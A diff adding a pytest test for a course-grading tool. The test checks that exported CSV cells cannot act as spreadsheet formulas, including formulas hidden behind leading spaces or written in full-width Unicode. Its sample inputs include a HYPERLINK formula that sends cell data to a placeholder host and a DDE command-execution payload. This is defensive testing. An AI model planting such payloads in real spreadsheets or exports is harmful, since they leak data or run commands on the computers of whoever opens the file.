@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import csv
+import unicodedata
 
 import pytest
 
@@ -94,6 +95,29 @@ def test_no_csv_cell_is_a_formula(tmp_path):
     assert [g["score"] for g in grades] == ["0", "1.5", ""]  # numbers stay numbers
     assert safe_cell("-1.5") == "-1.5" and safe_cell(-2) == "-2" and safe_cell("-2+3") == "'-2+3"
     assert safe_cell("plain") == "plain" and safe_cell("a=b") == "a=b"
+
+
+# What a spreadsheet that trims leading spaces (Google Sheets, LibreOffice's "trim spaces")
+# or folds compatibility forms reads as a formula: a student id, a tag, an exception message
+DISGUISED = [" =HYPERLINK(\"http://x/?\"&A1)", "   +cmd|' /C calc'!A0", "\u3000=1+1", "\xa0@SUM(A1:A9)",
+             "\uff1dHYPERLINK(\"x\")", "\uff0b1+1", "\ufe62cmd", "\uff20SUM(A1)", "\u2003\uff0d2+3"]
+
+
+def test_a_formula_behind_spaces_or_in_a_wide_form_is_no_formula(tmp_path):
+    from course_grading.red_flags import Flag
+    from course_grading.reports_csv import safe_cell
+    from course_grading.results import write_csv, write_flags_csv
+
+    for text in DISGUISED:
+        assert safe_cell(text) == "'" + text, text
+    assert [safe_cell(t) for t in ("  -2", "-1.5", "a = b", " plain", "")] == ["  -2", "-1.5", "a = b", " plain", ""]
+    results = [SubmissionResult(text, "03_attention", [ExerciseResult(text, 0, 2, text)],
+                                flags=[Flag(text, text)]) for text in DISGUISED]
+    for path in (write_csv(results, tmp_path / "grades.csv"), write_flags_csv(results, tmp_path / "flags.csv"),
+                 report.write_report(results, tmp_path)[0]):
+        for cell in _cells(path):
+            plain = unicodedata.normalize("NFKC", cell.lstrip())
+            assert not plain.startswith(("=", "+", "@")) and not plain.startswith("-2+"), (path.name, cell)
 
 
 def test_export_has_no_formula_and_says_what_is_not_a_grade(tmp_path):
